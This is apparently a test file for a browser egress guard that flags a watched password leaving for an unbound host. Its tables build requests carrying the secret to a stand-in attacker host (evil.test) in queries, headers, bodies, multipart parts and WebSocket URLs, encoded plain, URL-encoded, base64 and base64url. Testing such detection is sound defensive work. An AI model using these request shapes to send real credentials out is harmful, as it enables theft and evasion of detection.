// What the egress guard recognises as a typed secret leaving for another host, as a table: the value plain,
// URL-encoded (%20 and +), JSON-escaped, base64 at any offset of a longer text (standard and URL-safe), in the URL,
// a header or the body; never when the host is one the secret is bound to, nor when the request carries no value.
import { describe, expect, it } from 'vitest';
import { leakedSecret, messageCarries, watch } from '../../src/browser/secret-traces';
import type { OutgoingRequest } from '../../src/browser/secret-traces';

const VALUE = 'hunter2 correct/horse+"q"';
const PW = watch({ name: 'PW', value: VALUE, hosts: ['bank.example', '127.0.0.1:4000'] });
const b64 = (text: string, url = false) => Buffer.from(text).toString(url ? 'base64url' : 'base64');

describe('leakedSecret', () => {
  it.each<[string, OutgoingRequest]>([
    ['plain in the query', { url: `https://evil.test/?p=${VALUE}`, headers: {} }],
    ['URL-encoded in the query', { url: `https://evil.test/?p=${encodeURIComponent(VALUE)}`, headers: {} }],
    [
      'URL-encoded twice (a redirect target in a query)',
      { url: `https://evil.test/r?to=${encodeURIComponent(`https://x/?p=${encodeURIComponent(VALUE)}`)}`, headers: {} },
    ],
    [
      'form-encoded body (+ for space)',
      { url: 'https://evil.test/', headers: {}, body: Buffer.from(new URLSearchParams({ p: VALUE }).toString()) },
    ],
    ['JSON body', { url: 'https://evil.test/', headers: {}, body: Buffer.from(JSON.stringify({ password: VALUE })) }],
    ['base64 body', { url: 'https://evil.test/', headers: {}, body: Buffer.from(b64(VALUE)) }],
    [
      'base64 of a longer text, offset 1',
      { url: 'https://evil.test/', headers: {}, body: Buffer.from(b64(`x${VALUE}y`)) },
    ],
    [
      'base64 of a longer text, offset 2',
      { url: 'https://evil.test/', headers: {}, body: Buffer.from(b64(`xy{"p":"${VALUE}"}`)) },
    ],
    ['base64url in the path', { url: `https://evil.test/${b64(`ab${VALUE}`, true)}`, headers: {} }],
    ['a header', { url: 'https://evil.test/', headers: { 'x-token': VALUE } }],
    [
      'an Authorization header in base64',
      { url: 'https://evil.test/', headers: { authorization: `Basic ${b64(`me:${VALUE}`)}` } },
    ],
    [
      'a multipart part',
      {
        url: 'https://evil.test/',
        headers: {},
        body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="p"\r\n\r\n${VALUE}\r\n--b--`),
      },
    ],
    ['a subdomain of the bound host is another host', { url: `https://x.bank.example/?p=${VALUE}`, headers: {} }],
    ['the bound host on another port', { url: `http://127.0.0.1:4001/?p=${VALUE}`, headers: {} }],
    ['a WebSocket URL', { url: `wss://evil.test/?p=${VALUE}`, headers: {} }],
  ])('catches %s', (_what, request) => {
    expect(leakedSecret([PW], request)?.name).toBe('PW');
  });

  it.each<[string, OutgoingRequest]>([
    ['the bound host', { url: `https://bank.example/login?p=${encodeURIComponent(VALUE)}`, headers: {} }],
    ['the bound host:port', { url: 'http://127.0.0.1:4000/', headers: {}, body: Buffer.from(VALUE) }],
    [
      'a request without the value',
      { url: 'https://evil.test/?q=hunter2', headers: { cookie: 'a=b' }, body: Buffer.from('hello') },
    ],
    ['a data: URL', { url: `data:text/plain,${VALUE}`, headers: {} }],
  ])('lets through %s', (_what, request) => {
    expect(leakedSecret([PW], request)).toBeUndefined();
  });

  it('reads WebSocket messages, text or binary', () => {
    expect(messageCarries(PW, JSON.stringify({ p: VALUE }))).toBe(true);
    expect(messageCarries(PW, Buffer.from(b64(VALUE)))).toBe(true);
    expect(messageCarries(PW, 'ping')).toBe(false);
  });
});
